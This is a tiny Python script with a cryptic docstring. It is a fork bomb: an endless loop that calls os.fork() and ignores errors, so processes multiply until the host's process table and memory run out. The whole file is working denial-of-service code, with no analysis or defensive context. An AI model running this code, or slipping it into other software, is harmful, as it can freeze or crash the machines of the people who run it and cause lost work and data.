"""Each of its children does what it does."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
